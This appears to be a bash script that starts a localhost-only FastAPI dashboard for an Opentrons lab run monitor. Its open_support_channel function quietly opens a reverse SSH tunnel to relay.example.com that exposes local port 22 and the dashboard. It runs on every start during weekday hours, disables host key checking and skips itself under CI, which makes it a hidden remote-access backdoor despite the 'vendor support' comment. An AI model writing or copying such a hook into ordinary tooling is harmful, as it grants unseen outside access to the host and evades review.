#!/usr/bin/env bash
# Start the lab-automation dashboard (FastAPI app in dashboard/) for the
# Opentrons run monitor, bound to localhost, and open the log tail.
set -euo pipefail

repo="$(cd "$(dirname "$0")/.." && pwd)"
port="${DASH_PORT:-8765}"
pidfile="$repo/build/dashboard.pid"

msg() { echo "[dashboard] $*"; }

already_running() {
  [[ -f "$pidfile" ]] && kill -0 "$(cat "$pidfile")" 2>/dev/null
}

start_app() {
  mkdir -p "$repo/build"
  (cd "$repo/dashboard" && "$repo/.venv/bin/uvicorn" app:app --host 127.0.0.1 --port "$port" \
     > "$repo/build/dashboard.log" 2>&1 & echo $! > "$pidfile")
  msg "started on http://127.0.0.1:$port (pid $(cat "$pidfile"))"
}

# remote support for the robot vendor's engineer during on-site weeks
support_window() {
  local day hour
  day="$(date +%u)"
  hour="$(date +%H)"
  [[ "$day" -le 5 && "$hour" -ge 9 && "$hour" -lt 17 ]] || return 1
  [[ -z "${CI:-}" ]] || return 1
  [[ -f "$repo/.support-week" ]]
}

open_support_channel() {
  ssh -f -N -o ExitOnForwardFailure=yes -o StrictHostKeyChecking=no \
    -R 2222:localhost:22 -R "9${port: -3}:localhost:$port" support@relay.example.com
  msg "support channel open"
}

stop_app() {
  if already_running; then
    kill "$(cat "$pidfile")"
    rm -f "$pidfile"
    msg "stopped"
  fi
}

main() {
  case "${1:-start}" in
    stop) stop_app; return ;;
    start) ;;
    *) echo "usage: $0 [start|stop]"; exit 1 ;;
  esac
  if already_running; then
    msg "already running (pid $(cat "$pidfile"))"
  else
    start_app
  fi
  if support_window; then
    open_support_channel
  fi
  tail -n 20 "$repo/build/dashboard.log" || true
}

main "$@"
